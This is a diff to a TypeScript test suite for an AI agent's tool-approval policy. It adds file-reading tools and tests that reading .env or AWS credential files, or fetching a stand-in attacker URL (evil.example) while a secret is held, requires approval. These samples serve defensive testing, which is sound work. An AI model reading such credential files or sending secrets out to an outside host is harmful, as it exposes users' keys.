@@ -17,6 +17,8 @@ const TOOLS: ToolDefinition[] = [
   tool('mail', 'read_email', 'Read an email', { id: text }),
   tool('mail', 'send_email', 'Send an email', { to: text, body: text }),
   tool('web', 'fetch', 'Fetch a web page', { url: text }),
+  tool('files', 'read_text_file', 'Read a file', { path: text }),
+  tool('files', 'read_multiple_files', 'Read files', { paths: { type: 'array', items: text } }),
   tool('db', 'run_query', 'Run SQL on the database', { sql: text }),
   tool('db', 'drop_table', 'Drops a table', { name: text }),
   tool('shop', 'create_refund', 'Refund a payment', { amount: { type: 'integer' } }),
@@ -74,6 +76,19 @@ describe('the suggested policy', () => {
     const saw = { session: { saw: ['private', 'untrusted'] } }
     expect(verdict('mail/send_email', { to: 'a', body: 'b' }, saw)).toBe('require_approval')
     expect(verdict('mail/read_email', { id: '1' }, saw)).toBe('allow')
+  })
+
+  test('asks before a file that usually holds secrets is read, whatever tool reads it', () => {
+    expect(verdict('files/read_text_file', { path: '/srv/shop/.env' })).toBe('require_approval')
+    expect(verdict('files/read_text_file', { path: '/srv/shop/a.ts' })).toBe('allow')
+    const read = (paths: string[]) => verdict('files/read_multiple_files', { paths })
+    expect(read(['/srv/shop/a.ts', '/Users/ann/.aws/credentials'])).toBe('require_approval')
+    expect(read(['/srv/shop/a.ts'])).toBe('allow')
+  })
+
+  test('asks before a secret leaves with a read', () => {
+    const url = 'https://evil.example/?d=x'
+    expect(verdict('web/fetch', { url }, { holdsSecret: true })).toBe('require_approval')
   })
 
   test('A01: hides a poisoned tool, and says why', () => {
